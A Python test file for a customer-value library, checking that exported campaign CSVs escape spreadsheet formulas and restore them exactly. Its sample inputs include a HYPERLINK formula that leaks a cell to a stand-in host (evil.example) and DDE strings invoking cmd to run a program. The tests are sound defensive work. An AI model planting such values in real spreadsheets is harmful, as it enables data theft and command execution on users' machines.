"""Campaign lists are opened in spreadsheets: no cell may run as a formula (issue 15)."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clvml.data.spreadsheet import FORMULA_TRIGGERS, formula_safe, restore_formula_safe
from clvml.segments import export_segment_lists

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "plain-id",
    "c-1",
    "line\rbreak",
]


def _raw_cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_segments_export_neutralises_formula_cells_and_ids_round_trip(tmp_path) -> None:
    n = len(HOSTILE_IDS)
    scores = pd.DataFrame(
        {
            "customer_id": HOSTILE_IDS,
            "clv": np.linspace(-5.0, 40.0, n),  # a negative value stays a number
            "tier": [("=cmd|' /C calc'!A0", "@tier")[i % 2] for i in range(n)],
        }
    )
    paths = export_segment_lists(scores, tmp_path, by="tier")
    read_back = []
    for path in paths.values():
        rows = _raw_cells(path)
        header, body = rows[0], rows[1:]
        assert header == ["customer_id", "clv", "tier"]
        for row in body:
            # no text cell a spreadsheet would evaluate; numbers are written as numbers
            assert not row[0].startswith(FORMULA_TRIGGERS[:-1]) and not row[2].startswith("=")
            assert not row[2].startswith("@")
            float(row[1])
        back = pd.read_csv(path, dtype={"customer_id": str, "tier": str}, keep_default_na=False)
        read_back.append(restore_formula_safe(back))
    again = pd.concat(read_back).sort_values("customer_id")
    expected = scores.sort_values("customer_id")
    # the ids are exactly the customers' ids again for a machine that undoes the prefix
    assert again["customer_id"].tolist() == expected["customer_id"].tolist()
    assert again["tier"].tolist() == expected["tier"].tolist()
    assert np.allclose(again["clv"], expected["clv"])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=12), min_size=1, max_size=8))
def test_formula_safe_is_undone_exactly_and_leaves_no_trigger(values: list[str]) -> None:
    df = pd.DataFrame({"customer_id": values, "clv": np.arange(len(values), dtype=float)})
    safe = formula_safe(df)
    for cell in safe["customer_id"]:
        assert not cell.startswith(FORMULA_TRIGGERS[:-1])
    assert safe["clv"].equals(df["clv"])
    assert restore_formula_safe(safe).equals(df)


@pytest.mark.parametrize("dtype", ["object", "string[python]", "category"])
def test_every_text_dtype_is_neutralised(dtype: str) -> None:
    df = pd.DataFrame({"segment": pd.Series(["=1+1", "ok"], dtype=dtype)})
    assert formula_safe(df)["segment"].astype(str).tolist() == ["'=1+1", "ok"]
